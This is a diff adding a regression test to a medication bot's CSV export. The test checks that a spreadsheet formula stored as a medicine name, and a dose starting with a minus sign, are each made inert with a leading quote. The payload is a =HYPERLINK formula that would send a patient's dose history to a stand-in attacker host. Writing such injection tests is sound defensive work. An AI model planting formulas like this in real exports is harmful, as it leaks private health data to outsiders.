@@ -58,6 +58,20 @@ async def test_export_csv_matches_database(bot: Bot, admin_conn: asyncpg.Connect
     assert rows[0]["medication"] == "Metformin"
     assert rows[0]["due_at_utc"] == db_rows[0]["due_at"].isoformat()
 
+    # A medicine typed or imported as a formula: a spreadsheet app ran it (a link sending the
+    # dose history away when clicked). Kept inert with a leading quote; a number is left as is.
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"Metformin")'
+    await admin_conn.execute(
+        "update medications set name = $2, dose = '-1 tablet' where patient_id = $1",
+        patient["id"],
+        formula,
+    )
+    calls = await bot.send(chat, "/export")
+    [document] = [c for c in calls if c.method == "sendDocument"]
+    (upload,) = document.files.values()
+    rows = list(csv.DictReader(io.StringIO(upload["data"].decode("utf-8-sig"))))
+    assert {(r["medication"], r["dose"]) for r in rows} == {("'" + formula, "'-1 tablet")}
+
 
 async def test_export_leaves_out_planned_doses_and_stats_say_when_none_count(
     bot: Bot, admin_conn: asyncpg.Connection
